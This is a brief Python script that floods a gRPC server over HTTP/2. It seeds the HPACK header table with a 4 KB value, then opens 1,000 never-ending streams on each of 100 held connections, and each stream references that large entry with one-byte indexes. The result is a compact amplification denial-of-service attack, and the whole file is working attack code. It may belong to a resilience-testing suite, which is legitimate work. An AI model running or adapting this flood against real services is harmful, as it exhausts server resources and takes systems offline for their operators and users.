"""Requests without an end, 1,000 on each of 100 connections, with three references of one byte to a field of 4 KB."""

from wire import END_HEADERS, GET, HEADERS, PREFACE, frame, hold_connections, settings

# A field of 4,000 bytes into the table: its index is then 62.
FIELD = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000
CONNECTIONS = 100


def flood(target, until):
    opening = PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, GET + FIELD)
    opening += b"".join(frame(HEADERS, END_HEADERS, stream, GET + b"\xbe" * 3) for stream in range(3, 2_001, 2))
    return hold_connections(target.grpc, until, opening, CONNECTIONS)
